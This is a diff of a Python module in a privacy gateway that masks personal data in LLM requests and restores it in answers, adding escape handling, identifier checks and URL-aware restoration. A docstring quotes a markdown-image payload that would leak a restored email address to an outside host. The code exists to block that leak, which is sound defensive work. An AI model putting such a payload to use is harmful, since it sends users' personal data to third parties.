@@ -3,7 +3,7 @@ back — whole answers, streams chunk by chunk, tool-call arguments and structur
 
 The privacy library (`tarnkappe.privacy`) finds and replaces personal data in text; this module
 knows where text lives in a request. It does not keep a list of places: it walks every field of a
-canonical request by what that field declares in `gateway/types.py` (`FieldPrivacy`), and refuses
+canonical request by what that field declares in `core/types.py` (`FieldPrivacy`), and refuses
 to load if any field of a request type declares nothing. So a field that a dialect adds tomorrow is
 masked, pseudonymized, dropped or refused like those of today — it cannot be forgotten.
 
@@ -30,8 +30,8 @@ import re
 from collections.abc import AsyncIterator, Callable, Iterator
 from typing import Any
 
-from tarnkappe.gateway.errors import GatewayError, InvalidRequest, PayloadTooLarge
-from tarnkappe.gateway.types import (
+from tarnkappe.core.errors import GatewayError, InvalidRequest, PayloadTooLarge
+from tarnkappe.core.types import (
     ChatChunk,
     ChatRequest,
     ChatResult,
@@ -47,6 +47,7 @@ from tarnkappe.gateway.types import (
 )
 from tarnkappe.privacy import Anonymizer, EntityType, StreamRestorer, Vault
 from tarnkappe.privacy.placeholders import placeholder_pattern
+from tarnkappe.wire.openai import TEXT_PART_KINDS
 
 REQUEST_TYPES: tuple[type, ...] = (ChatRequest, EmbeddingRequest, Message, ContentPart, ToolCall, Tool, ResponseFormat)
 
@@ -68,8 +69,34 @@ def undeclared_fields(types: tuple[type, ...] = REQUEST_TYPES) -> list[str]:
     ]
 
 
-if undeclared_fields():  # a request field nobody decided about must never reach an upstream
-    raise RuntimeError(f"request fields without a privacy declaration: {', '.join(undeclared_fields())}")
+# INERT fields that are free strings, each checked before masking by other means: the model name
+# must be a catalog name (unknown names are a 404 before anything is masked).
+CHECKED_ELSEWHERE = frozenset({"ChatRequest.model", "EmbeddingRequest.model"})
+_LITERAL = re.compile(r"Literal\[[^\]]*\]")
+
+
+def inert_free_text(types: tuple[type, ...] = REQUEST_TYPES) -> list[str]:
+    """`Type.field` for every field declared INERT whose type admits a free string: "no text" must
+    be true of its type (numbers, flags, Literal enumerations), or the field must be checked
+    elsewhere (CHECKED_ELSEWHERE)."""
+    found = []
+    for cls in types:
+        for f in dataclasses.fields(cls):
+            name = f"{cls.__name__}.{f.name}"
+            if f.metadata.get("privacy") is not FieldPrivacy.INERT or name in CHECKED_ELSEWHERE:
+                continue
+            if re.search(r"\b(str|Any|dict|list)\b", _LITERAL.sub("", str(f.type))):
+                found.append(name)
+    return found
+
+
+# A request field nobody decided about, or an "inert" one that can hold text, must never reach an
+# upstream: refuse to load.
+if undeclared_fields() or inert_free_text():
+    raise RuntimeError(
+        "request fields without a privacy declaration, or INERT fields that can hold text: "
+        + ", ".join(undeclared_fields() + inert_free_text())
+    )
 
 
 # --------------------------------------------------------------------------- JSON values
@@ -164,7 +191,8 @@ class _MaskPlan:
             value = getattr(obj, f.name)
             if value is None:
                 continue
-            where = f"{path}.{f.name}" if path else f.name
+            name = f.metadata.get("wire_name", f.name)
+            where = f"{path}.{name}" if path else name
             kind: FieldPrivacy = f.metadata["privacy"]
             if kind is FieldPrivacy.INERT:
                 continue
@@ -173,7 +201,7 @@ class _MaskPlan:
             elif kind is FieldPrivacy.JSON:
                 self._json(value, _setter(obj, f.name))
             elif kind is FieldPrivacy.JSON_TEXT:
-                self._json_text(value, _setter(obj, f.name))
+                self._json_text(value, _setter(obj, f.name), where)
             elif kind is FieldPrivacy.IDENTIFIER:
                 strings: list[str] = []
                 _json_strings(value, strings)
@@ -191,13 +219,15 @@ class _MaskPlan:
 
     def _text(self, value: Any, where: str, write: Callable[[Any], None]) -> None:
         if isinstance(value, str):
-            self._add([value], lambda masked: write(masked[0]))
+            self._string(value, write)
         elif dataclasses.is_dataclass(value):
             self.walk(value, where)
         elif isinstance(value, list):
+            if value and all(isinstance(item, ContentPart) for item in value):
+                value[:] = _merge_text_parts(value)
             for index, item in enumerate(value):
                 if isinstance(item, str):
-                    self._add([item], lambda masked, i=index: value.__setitem__(i, masked[0]))
+                    self._string(item, lambda masked, i=index: value.__setitem__(i, masked))
                 elif dataclasses.is_dataclass(item):
                     self.walk(item, f"{where}[{index}]")
                 else:
@@ -209,25 +239,49 @@ class _MaskPlan:
         else:
             raise InvalidRequest(f"'{where}' cannot be anonymized; the request was not sent.", param=where)
 
+    def _string(self, value: str, write: Callable[[Any], None]) -> None:
+        """Free text. If it is JSON with escapes (a tool result: `"J\\u00fcrg"`), the detector
+        must see the characters, not their escapes, so it is masked as JSON; a provider that
+        decodes it (Gemini) then sends nothing unmasked either."""
+        if "\\" in value:
+            try:
+                data = json.loads(value)
+            except ValueError:
+                data = None
+            if isinstance(data, (dict, list, str)):
+                self._json(data, lambda rebuilt: write(json.dumps(rebuilt, ensure_ascii=False)))
+                return
+        self._add([value], lambda masked: write(masked[0]))
+
     def _json(self, value: Any, write: Callable[[Any], None]) -> None:
         strings: list[str] = []
         _json_strings(value, strings)
         self._add(strings, lambda masked: write(_json_rebuild(value, iter(masked))))
 
-    def _json_text(self, value: str, write: Callable[[Any], None]) -> None:
+    def _json_text(self, value: str, write: Callable[[Any], None], where: str = "") -> None:
         try:
             data = json.loads(value)
         except ValueError:
+            if "\\" in value:  # escapes the detector cannot read in text that is not JSON
+                raise InvalidRequest(
+                    f"'{where}' is not valid JSON and holds escapes, so it cannot be anonymized; the request "
+                    "was not sent.", param=where or None,
+                ) from None
             self._add([value], lambda masked: write(masked[0]))
             return
         self._json(data, lambda rebuilt: write(json.dumps(rebuilt, ensure_ascii=False)))
 
     def _media(self, obj: Any, attribute: str, value: Any, path: str) -> None:
-        if getattr(obj, "text", None) is not None:
-            # A text part's other keys (rarely any): masked like any JSON.
-            self._json(value, _setter(obj, attribute))
-            return
         kind = getattr(obj, "type", "non-text")
+        if kind in TEXT_PART_KINDS:
+            extra = sorted(set(value) - TEXT_PART_EXTRAS)
+            if extra:
+                raise InvalidRequest(
+                    f"'{path}' is a text part with '{extra[0]}', which cannot be anonymized; the request was "
+                    "not sent.", param=path,
+                )
+            self._json(value, _setter(obj, attribute))  # cache_control and the like: masked as JSON
+            return
         raise InvalidRequest(
             f"'{path}' is a '{kind}' part, which cannot be anonymized without destroying it; the request "
             "was not sent. Send it without this part, or without anonymization.",
@@ -252,15 +306,28 @@ class _MaskPlan:
         vault = anonymizer.new_vault()
         try:
             for where, text in self.identifiers:
-                found = anonymizer.detect(text)
-                if found:
-                    kinds = ", ".join(sorted({str(e.type) for e in found}))
+                if not _IDENTIFIER.fullmatch(text):
+                    raise InvalidRequest(
+                        f"'{where}' must be sent verbatim, so with anonymization it may hold only letters, "
+                        "digits, '_' and '-' (at most 64); the request was not sent.",
+                        param=where,
+                    )
+            masked = anonymizer.mask_many(self.texts, vault)
+            hints = {h.casefold() for h in vault.person_hints()}  # name parts masked in the request
+            for where, text in self.identifiers:
+                words = _words_of(text)
+                # Person names are judged by the request's own names only: on bare words ("Read",
+                # "Bash", "Record") the name detector guesses, and a tool name is no sentence.
+                kinds = {str(e.type) for e in anonymizer.detect(words) if e.type != EntityType.PERSON}
+                if hints.intersection(w.casefold() for w in words.split()):
+                    kinds.add(EntityType.PERSON)
+                if kinds:
+                    kinds = ", ".join(sorted(kinds))
                     raise InvalidRequest(
                         f"'{where}' holds personal data ({kinds}) and must be sent verbatim, so it cannot be "
                         "anonymized; the request was not sent. Rename it, or send it without anonymization.",
                         param=where,
                     )
-            masked = anonymizer.mask_many(self.texts, vault)
             for start, end, write in self.writers:
                 write(masked[start:end])
             for obj, attribute, name in self.participants:
@@ -276,6 +343,34 @@ class _MaskPlan:
                 f"Anonymization failed ({type(exc).__name__}); the request was not sent."
             ) from None
         return vault
+
+
+# What a name sent verbatim may be made of while anonymizing (OpenAI's rule for function names):
+# no '@', '.', spaces or other separators that could carry an address or a sentence.
+_IDENTIFIER = re.compile(r"[A-Za-z0-9_-]{1,64}")
+_WORD_BREAK = re.compile(r"[_\-]+|(?<=[a-z])(?=[A-Z])")
+# Keys a text part may carry besides its text while anonymizing (none of them holds content).
+TEXT_PART_EXTRAS = frozenset({"cache_control"})
+
+
+def _words_of(identifier: str) -> str:
+    """`email_annaMeier` → `email anna Meier`: the detectors read words (`iban_CH93…` holds an
+    IBAN), and a name of the request inside an identifier is still that name."""
+    return " ".join(w for w in _WORD_BREAK.split(identifier) if w)
+
+
+def _merge_text_parts(parts: list[ContentPart]) -> list[ContentPart]:
+    """Adjacent text parts as one: a value split across parts ("anna.meier@exa" + "mple.ch") is
+    one value to the detector, as it is to a provider that joins them."""
+    merged: list[ContentPart] = []
+    for part in parts:
+        previous = merged[-1] if merged else None
+        if (previous is not None and part.type in TEXT_PART_KINDS and previous.type in TEXT_PART_KINDS
+                and not part.data and not previous.data and part.text is not None and previous.text is not None):
+            merged[-1] = ContentPart(type=previous.type, text=previous.text + part.text)
+        else:
+            merged.append(part)
+    return merged
 
 
 def _setter(obj: Any, attribute: str) -> Callable[[Any], None]:
@@ -298,24 +393,59 @@ def mask_request(anonymizer: Anonymizer, request: ChatRequest | EmbeddingRequest
 # --------------------------------------------------------------------------- restoring
 
 
-class _JsonEscaping:
-    """A vault seen from inside a JSON string: originals come back JSON-escaped, so that a name
-    with a quote or a backslash cannot break the tool arguments or structured output it is in."""
+class Restorer:
+    """Puts originals back into one answer's text, passed in order (a whole text, or a stream's
+    pieces one after the other).
 
-    __slots__ = ("_vault",)
+    A placeholder inside a URL is left as it is: a model — or an upstream that wants the data — can
+    write `![x](https://host/p.png?u=[[EMAIL_1]])`, and the client's markdown renderer or tool
+    would send the restored value to that host. With `json_escaped`, originals come back
+    JSON-escaped, so that a name with a quote cannot break the tool arguments it is in.
+    """
 
-    def __init__(self, vault: Vault) -> None:
+    __slots__ = ("_vault", "_json", "_tail")
+
+    def __init__(self, vault: Vault, *, json_escaped: bool = False) -> None:
         self._vault = vault
+        self._json = json_escaped
+        self._tail = ""  # the end of what was restored before, for the URL a placeholder is in
 
     def restore(self, text: str) -> str:
         lookup = self._vault.lookup
+        before = self._tail
 
         def sub(m: re.Match[str]) -> str:
+            if _in_url(before, text, m.start()):
+                return m.group(0)
             var = m.group("var")
             original = lookup(m.group("type"), int(m.group("num")), int(var) if var else None)
-            return m.group(0) if original is None else json.dumps(original, ensure_ascii=False)[1:-1]
+            if original is None:
+                return m.group(0)
+            return json.dumps(original, ensure_ascii=False)[1:-1] if self._json else original
 
-        return placeholder_pattern().sub(sub, text)
+        restored = placeholder_pattern().sub(sub, text) if "[" in text or "\\" in text else text
+        self._tail = (before + text)[-_URL_CONTEXT:]
+        return restored
+
+
+_URL_CONTEXT = 2048  # how far back a URL is looked for (a longer URL than this is restored into)
+_URL_BOUNDARY = re.compile(r"[\s\"'<>()]")
+
+
+def _in_url(before: str, text: str, at: int) -> bool:
+    """Whether position `at` of `text` (after `before`) is inside a URL: the word it is in,
+    delimited by white space, quotes, angle brackets or parentheses, has a scheme's '://'."""
+    start = at
+    while start > 0 and not _URL_BOUNDARY.match(text, start - 1):
+        start -= 1
+        if at - start > _URL_CONTEXT:
+            break
+    word = text[start:at]
+    if start == 0:
+        tail = before[-_URL_CONTEXT:]
+        cut = max((m.end() for m in _URL_BOUNDARY.finditer(tail)), default=0)
+        word = tail[cut:] + word
+    return "://" in word
 
 
 def wants_json(request: ChatRequest) -> bool:
@@ -326,7 +456,12 @@ def wants_json(request: ChatRequest) -> bool:
 def restore_result(result: ChatResult, vault: Vault, *, json_content: bool = False) -> None:
     """Put the originals back into a whole answer (in place): content, refusals, tool calls —
     in JSON content and tool arguments keys included."""
-    restore_text = (lambda text: _map_json_strings(text, vault.restore)) if json_content else vault.restore
+    def restore(text: str) -> str:
+        return Restorer(vault).restore(text)
+
+    def restore_text(text: str) -> str:
+        return _map_json_strings(text, restore) if json_content else restore(text)
+
     for choice in result.choices:
         message = choice.message
         if isinstance(message.content, str):
@@ -336,9 +471,9 @@ def restore_result(result: ChatResult, vault: Vault, *, json_content: bool = Fal
                 if part.text:
                     part.text = restore_text(part.text)
         if message.refusal:
-            message.refusal = vault.restore(message.refusal)
+            message.refusal = restore(message.refusal)
         for call in message.tool_calls or ():
-            call.arguments = _map_json_strings(call.arguments, vault.restore)
+            call.arguments = _map_json_strings(call.arguments, restore)
 
 
 async def restore_stream(
@@ -350,11 +485,10 @@ async def restore_stream(
     split across two chunks is held back only until it is complete, everything else passes at
     once. What is still held back when a choice finishes is emitted on that choice's final chunk,
     before its finish_reason, so nothing is lost and nothing is reordered. Tool arguments (and
-    JSON content) get JSON-escaped originals.
+    JSON content) get JSON-escaped originals; placeholders inside URLs stay (see `Restorer`).
     """
-    escaped = _JsonEscaping(vault)
-    content_source: Any = escaped if json_content else vault
     content: dict[int, StreamRestorer] = {}
+    refusals: dict[int, Restorer] = {}
     arguments: dict[tuple[int, int], StreamRestorer] = {}
     chunk: ChatChunk | None = None
     async for chunk in stream:
@@ -362,16 +496,16 @@ async def restore_stream(
             if delta.content:
                 restorer = content.get(delta.index)
                 if restorer is None:
-                    restorer = content[delta.index] = StreamRestorer(content_source)
+                    restorer = content[delta.index] = StreamRestorer(Restorer(vault, json_escaped=json_content))  # type: ignore[arg-type]
                 delta.content = restorer.feed(delta.content)
             if delta.refusal:
-                delta.refusal = vault.restore(delta.refusal)
+                delta.refusal = refusals.setdefault(delta.index, Restorer(vault)).restore(delta.refusal)
             for call in delta.tool_calls or ():
                 if call.arguments:
                     key = (delta.index, call.index)
                     restorer = arguments.get(key)
                     if restorer is None:
-                        restorer = arguments[key] = StreamRestorer(escaped)  # type: ignore[arg-type]
+                        restorer = arguments[key] = StreamRestorer(Restorer(vault, json_escaped=True))  # type: ignore[arg-type]
                     call.arguments = restorer.feed(call.arguments)
             if delta.finish_reason is not None:
                 _flush_choice(delta, content, arguments)
